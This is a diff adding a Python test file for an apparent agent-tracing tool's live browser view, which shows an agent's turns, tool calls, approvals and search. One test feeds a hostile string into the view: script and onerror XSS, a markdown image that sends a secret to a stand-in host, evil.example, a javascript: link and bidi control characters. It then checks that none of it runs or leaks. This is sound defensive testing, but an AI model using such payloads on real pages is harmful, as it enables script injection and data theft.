@@ -1,0 +1,242 @@
+"""The page of the live view in headless Chromium."""
+
+from __future__ import annotations
+
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+
+import httpx2
+import pytest
+import trio
+from playwright.sync_api import Page, expect
+
+import triocept
+from tests.real_browsers.agents import Agent
+from tests.real_browsers.browsing import CHROMIUM, Tab, browse
+from triocept import ScriptedModel, ToolCall
+from triocept.handlers import approve, ask_page
+
+pytestmark = [
+    pytest.mark.once,
+    pytest.mark.skipif(CHROMIUM is None, reason="this machine has no chromium (apt-get install chromium)"),
+]
+HOSTILE = (
+    "<script>document.title='pwned'</script><img src=x onerror=\"document.title='pwned'\"> "
+    "![x](https://evil.example/?q=secret) [a](javascript:alert(1)) \u202etxt.exe\u202c \x1b[31mred \u200bzero"
+)
+
+
+@asynccontextmanager
+async def served() -> AsyncIterator[tuple[triocept.Endpoint, httpx2.AsyncClient, trio.Nursery]]:
+    with trio.fail_after(200):
+        async with httpx2.AsyncClient() as client, triocept.serve_endpoint(view=True) as endpoint:
+            async with trio.open_nursery() as nursery:
+                yield endpoint, client, nursery
+                nursery.cancel_scope.cancel()
+
+
+def turns(page: Page, number: int) -> None:
+    """Choose a turn."""
+    page.locator(".turns [role=option]").nth(number).click()
+    expect(page.locator(".detail h2")).to_have_text(f"Turn {number}")
+
+
+def press(page: Page, key: str) -> None:
+    """Press a key about the tool call that waits."""
+    expect(page.get_by_role("button", name="Answer instead")).to_be_visible()
+    page.locator(".detail").focus()
+    page.keyboard.press(key)
+
+
+async def test_a_stream_appears_word_by_word_and_then_as_a_turn() -> None:
+    words: trio.MemorySendChannel[str]
+    words, given = trio.open_memory_channel(0)
+
+    async def answer(exchange: triocept.Exchange) -> None:
+        async with exchange.open_stream() as stream:
+            async for word in given:
+                await stream.send(word)
+
+    async with served() as (endpoint, client, nursery):
+
+        def look(tab: Tab) -> None:
+            page = tab.page
+            page.goto(endpoint.view_url)
+            expect(page.locator(".turns")).to_contain_text("waits for the first token")
+            for word in ("Once ", "upon ", "a time."):
+                trio.from_thread.run(words.send, word)
+                expect(page.locator(".message.live")).to_contain_text(word.strip())
+            assert endpoint.view_url.partition("#key=")[2] not in page.url
+            trio.from_thread.run(words.aclose)
+            expect(page.locator(".detail h2")).to_have_text("Turn 0")
+            expect(page.locator(".detail .message.assistant")).to_contain_text("Once upon a time.")
+            expect(page.locator(".runs .state")).to_contain_text("idle")
+
+        async with endpoint.open_rollout(answer) as rollout:
+            nursery.start_soon(lambda: Agent(client, rollout).call("Tell a story.", stream=True))
+            await browse(look)
+
+
+async def test_new_messages_results_and_changes_since_the_turn_before_are_shown() -> None:
+    async with served() as (endpoint, client, _):
+        calls = [ToolCall.of("Bash", command="ls"), ToolCall.of("Bash", command="pwd"), "done"]
+        async with endpoint.open_rollout(ScriptedModel(calls)) as rollout:
+            agent = Agent(client, rollout)
+            agent.result(await agent.call("Fix the bug."), "a.py")
+            agent.system = agent.system.replace("Rule 7: keep", "Rule 7: always keep")
+            agent.result(await agent.call(), "/home", is_error=True)
+            agent.tools = agent.tools[:2]
+            await agent.call()
+
+        def look(tab: Tab) -> None:
+            page = tab.page
+            page.goto(endpoint.view_url)
+            turns(page, 0)
+            expect(page.locator(".call", has_text="ls").locator(".result")).to_contain_text("a.py")
+            turns(page, 1)
+            system = page.locator(".fold", has_text="System prompt")
+            expect(system.locator(".badge")).to_have_text("CHANGED")
+            system.get_by_role("button", name="System prompt").click()
+            expect(system.locator(".diff .added")).to_have_text("+ Rule 7: always keep it small.\n")
+            turns(page, 2)
+            expect(page.locator(".fold", has_text="System prompt").first).to_contain_text(
+                "Rule 29"
+            )  # stays open
+            expect(page.locator(".detail-body > .message .result.bad")).to_contain_text("/home")
+            expect(page.locator(".fold", has_text="Tools").locator(".badge")).to_have_text("CHANGED")
+            page.get_by_role("button", name="Tools").click()
+            expect(page.locator(".removed", has_text="Task")).to_be_visible()
+
+        await browse(look)
+
+
+async def test_hostile_text_is_shown_and_never_run_and_no_request_leaves_the_page() -> None:
+    async with served() as (endpoint, client, _):
+        model = ScriptedModel([ToolCall.of("Bash", command=HOSTILE), HOSTILE])
+        async with endpoint.open_rollout(model) as rollout:
+            agent = Agent(client, rollout)
+            agent.result(await agent.call(HOSTILE), f"{HOSTILE}\nKEY={rollout.api_key}")
+            await agent.call()
+            key = rollout.api_key
+
+        def look(tab: Tab) -> None:
+            page = tab.page
+            page.goto(endpoint.view_url)
+            for number in (0, 1):
+                turns(page, number)
+                expect(page.locator(".detail .message.assistant").first).to_contain_text("<script>")
+                for shown in ("⟨202e⟩", "⟨001b⟩", "⟨200b⟩"):
+                    expect(page.locator(".detail .hidden-char", has_text=shown).first).to_be_visible()
+            assert page.locator("img").count() == 0
+            assert page.locator("a").count() == 0
+            assert page.title() == "triocept"
+            assert key not in page.content()
+            assert [url for url in tab.requests if not url.startswith((endpoint.url, "data:"))] == []
+
+        await browse(look)
+
+
+async def test_a_person_approves_edits_answers_and_rejects_and_the_turn_names_who_did() -> None:
+    async with served() as (endpoint, client, nursery):
+        call = ToolCall.of("Bash", command="rm -rf build")
+        model = approve(ScriptedModel([call, call, call, call, "end"]), {"Bash": ask_page})
+        got: list[str] = []
+
+        async def run(rollout: triocept.Rollout) -> None:
+            for _ in range(4):
+                agent = Agent(client, rollout)
+                got.append(str(await agent.call("Clean up.")))
+
+        def look(tab: Tab) -> None:
+            page = tab.page
+            page.goto(endpoint.view_url)
+            waiting = page.locator("section.waiting")
+            expect(waiting).to_contain_text("rm -rf build")
+            waiting.get_by_label("Your name").fill("Ann")
+            waiting.get_by_role("button", name="Approve").click()
+            expect(page.locator(".turns [role=option]")).to_have_count(2)
+            press(page, "e")
+            waiting.locator("textarea").fill("[")
+            waiting.get_by_role("button", name="Approve with").click()
+            expect(waiting.get_by_role("alert")).to_contain_text("JSON object")
+            waiting.locator("textarea").fill('{"command": "ls build"}')
+            waiting.get_by_role("button", name="Approve with").click()
+            expect(page.locator(".turns [role=option]")).to_have_count(3)
+            press(page, "i")
+            page.keyboard.type("it is clean already")
+            page.keyboard.press("Control+Enter")
+            expect(page.locator(".turns [role=option]")).to_have_count(4)
+            press(page, "r")
+            page.keyboard.type("not today")
+            page.keyboard.press("Control+Enter")
+            expect(waiting).to_have_count(0)
+            page.locator(".turns [role=option]").nth(0).click()
+            expect(page.locator(".decision")).to_contain_text("approved by page: Ann")
+
+        async with endpoint.open_rollout(model) as rollout:
+            nursery.start_soon(run, rollout)
+            await browse(look)
+        decisions = [(each.kind, each.by) for turn in rollout.trace for each in turn.decisions]
+        assert decisions == [(kind, "page: Ann") for kind in ("approve", "modify", "answer", "reject")]
+        assert "ls build" in got[1]
+
+
+async def test_search_finds_text_in_a_result_and_a_link_opens_the_turn_again() -> None:
+    async with served() as (endpoint, client, _):
+        async with endpoint.open_rollout(
+            ScriptedModel([ToolCall.of("Bash", command="ls"), "one", "two"])
+        ) as rollout:
+            agent = Agent(client, rollout)
+            agent.result(await agent.call("Look."), "x" * 5000 + " needle in the hay")
+            await agent.call()
+            await agent.call("And now?")
+
+        def look(tab: Tab) -> None:
+            page = tab.page
+            page.goto(endpoint.view_url)
+            expect(page.locator(".turns [role=option]")).to_have_count(3)
+            page.keyboard.press("/")
+            page.keyboard.type("NEEDLE")
+            page.keyboard.press("Enter")
+            page.locator(".hit").click()
+            expect(page.locator(".detail h2")).to_have_text("Turn 1")
+            expect(page.locator(".detail mark").first).to_have_text("needle")
+            page.keyboard.press("j")
+            expect(page.locator(".detail h2")).to_have_text("Turn 2")
+            page.keyboard.press("k")
+            expect(page.locator(".detail h2")).to_have_text("Turn 1")
+            assert "turn=" in page.url
+            other = tab.open()  # without the key: another tab of the same browser has it
+            other.goto(page.url)
+            expect(other.locator(".detail h2")).to_have_text("Turn 1")
+
+        await browse(look)
+
+
+async def test_seven_tabs_are_live_with_one_stream_and_go_on_when_the_first_is_closed() -> None:
+    async with served() as (endpoint, client, _):
+
+        async def viewers() -> int:
+            view = endpoint._view  # the number of streams is not public
+            return view.source.viewers  # type: ignore[union-attr, no-any-return]
+
+        def look(tab: Tab) -> None:
+            pages = [tab.page, *(tab.open() for _ in range(6))]
+            for page in pages:
+                page.goto(endpoint.view_url)
+                expect(page.locator(".status")).to_have_text("live")
+            assert trio.from_thread.run(viewers) == 1
+            trio.from_thread.run(one_turn)
+            for page in pages:
+                expect(page.locator(".runs [role=option]")).to_have_count(1)
+            pages[0].close()
+            trio.from_thread.run(one_turn)
+            for page in pages[1:]:
+                expect(page.locator(".runs [role=option]")).to_have_count(2)
+            assert trio.from_thread.run(viewers) == 1
+
+        async def one_turn() -> None:
+            async with endpoint.open_rollout(ScriptedModel(["hello"])) as rollout:
+                await Agent(client, rollout).call("Hi.")
+
+        await browse(look)
